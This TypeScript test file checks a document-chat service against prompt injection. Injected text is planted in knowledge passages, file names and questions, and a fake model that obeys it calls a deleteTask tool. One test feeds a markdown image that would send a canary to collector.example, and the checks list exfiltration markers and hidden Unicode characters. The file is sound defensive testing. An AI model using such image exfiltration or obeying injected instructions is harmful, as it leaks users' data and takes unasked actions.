/** Texts that address the assistant (attacks 23–25 of SECURITY.md): they are data, and what a model that obeys says does no harm. */
import { calls, present } from '@polyphony/contract'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { type Peer, startTestPeer } from '../../ground/adapters/ai/test-peer.ts'
import type { Listener } from '../../testing/listener.ts'
import { type ChatWorld, openChatWorld } from './testing/chat-world.ts'
import { injections } from './testing/injections.ts'
import { doneChunk, endChunk, textChunk, toolChunk } from './testing/sse.ts'

let world: ChatWorld
let peer: Peer
let plain: Listener
let stranger: string

const tasksOf = async () =>
  (await world.db.selectFrom('task').select('task_id').where('deleted_at', 'is', null).execute()).length

beforeAll(async () => {
  peer = await startTestPeer()
  world = await openChatWorld({ config: { RATE_LIMIT_FACTOR: 1000 } })
  plain = await world.listen()
  await world.provide(peer.url)
  const legal = await world.base({ title: 'Legal', department_ids: [world.department.legal] })
  stranger = await world.knows(legal, ['CANARY-legal: the crane and its brake are subject of a secret settlement.'])
})
afterAll(async () => {
  await world.close()
  await peer.close()
})

describe.for(injections.map((injection, index) => ({ ...injection, index })))(
  '$index: $where',
  ({ where, text, says, index }) => {
    it('does nothing but be read', { timeout: 30_000 }, async () => {
      const kbs_id = await world.base({ title: `Base ${index}` })
      const body = `The crane of quay ${index} is checked on Monday by the foreman.`
      const knowledge_id = await world.knows(kbs_id, [where === 'name' ? body : `${body} ${text}`])
      if (where === 'name')
        await world.db.updateTable('knowledge').set({ name: text }).where('knowledge_id', '=', knowledge_id).execute()
      peer.answer = () => ({
        sse: [
          ...(says.match(/[\s\S]{1,3}/gu) ?? []).map(textChunk),
          toolChunk('deleteTask', {}),
          endChunk(),
          doneChunk,
        ],
      })
      const [asked, tasks] = [peer.requests.length, await tasksOf()]
      const chat_id = await world.openChat()
      const question = `When is the crane of quay ${index} checked?${where === 'question' ? ` ${text}` : ''}`
      const answer = await world.asked(plain, chat_id, question, { file_id: [knowledge_id] })

      expect(peer.requests.length - asked).toBe(1)
      const { json } = present(peer.requests[asked])
      expect(json).not.toHaveProperty('tools')
      const sent = JSON.stringify(json)
      expect(sent).not.toContain('CANARY-legal')
      expect(sent).not.toMatch(/[\u200b\u202e]|\\u200b|\\u202e/)
      expect(sent).not.toMatch(/\u{e0049}/u)
      const messages = json.messages as { role: string; content: string | { text: string }[] }[]
      const last = messages.at(-1)?.content ?? ''
      const shown = typeof last === 'string' ? last : last.map((part) => part.text).join('\n')
      const fences = [...shown.matchAll(/^=== ([0-9a-f-]{36}) ===$/gm)]
        .map(([, id]) => id)
        .filter((id) => !id?.startsWith('0000'))
      expect(new Set(fences).size).toBe(1)
      // A passage is one line of JSON: it ends nowhere but at its end.
      const passages = shown.split('\n').filter((line) => line.startsWith('Passage ['))
      expect(passages.map((line) => line.slice(0, 11))).toEqual(['Passage [1]'])
      expect(() => JSON.parse(passages[0]?.slice('Passage [1]: '.length) ?? '')).not.toThrow()

      expect(answer.status).toBe('end')
      expect(answer.content).not.toMatch(/collector\.example|!\[|\]\(|<img|<script|<a /)
      expect(answer.content).not.toMatch(/[\u200b\u202e]/)
      for (const [, n] of answer.content.matchAll(/\[(\d+)\]/g)) expect(n).toBe('1')
      expect(answer.files.every((file) => file.knowledge_id === knowledge_id && file.quote !== '')).toBe(true)
      expect(await tasksOf()).toBe(tasks)
    })
  },
)

it('is of an answer that is shown again, too: the next question doesn’t repeat what it was told', async () => {
  const chat_id = await world.openChat()
  peer.answer = () => ({ sse: [textChunk('Monday [1] ![x](https://collector.example/CANARY)'), endChunk(), doneChunk] })
  await world.asked(plain, chat_id, 'When is the crane of quay 1 checked?')
  await world.asked(plain, chat_id, 'And by whom is the crane of quay 1 checked?')
  expect(JSON.stringify(peer.requests.at(-1)?.json)).not.toContain('collector.example/CANARY')
})

describe('what the asker doesn’t reach', () => {
  it('is in no request, answer, citation, history or list', async () => {
    peer.answer = ({ prompt }) => ({ sse: [textChunk(prompt.slice(0, 3000)), endChunk(), doneChunk] })
    const chat_id = await world.openChat()
    const answer = await world.asked(plain, chat_id, 'secret settlement of the crane brake', { file_id: [stranger] })
    expect(answer.files).toEqual([])
    const named = { kbs_ids: [], selectArr: [], top_p: null, temperature: null }
    await world.send(plain, 'chat_config', { chat_id, config: { ...named, kbs_ids: [stranger] } })
    await world.asked(plain, chat_id, 'What do you know of the secret settlement of the crane and its brake?')
    const seen = [
      await world.history(chat_id),
      await world.as.plain.call(calls.chat.getChatHistories, { keyword: '' }),
      plain.heard,
      peer.requests.map(({ json }) => json),
    ]
    expect(JSON.stringify(seen)).not.toContain('CANARY-legal')
  })

  it('right removed while the answer is being written: it isn’t shown', async () => {
    const own = await world.listen('legal')
    const chat_id = await world.openChat('legal')
    peer.answer = async () => {
      await world.db
        .updateTable('company_member')
        .set({ department_id: world.department.sales })
        .where('account_id', '=', world.as.legal.account_id)
        .execute()
      return { sse: [textChunk('CANARY-said [1]'), endChunk(), doneChunk] }
    }
    const answer = await world.asked(own, chat_id, 'What of the secret settlement of the crane brake?', {}, 'legal')
    expect(answer).toMatchObject({ content: '', files: [], notice: { code: 'withheld' } })
    expect(await world.send(own, 'chat_resume', { chat_id, last_seq: 0 })).toMatchObject({ data: { deltas: [] } })
  })
})
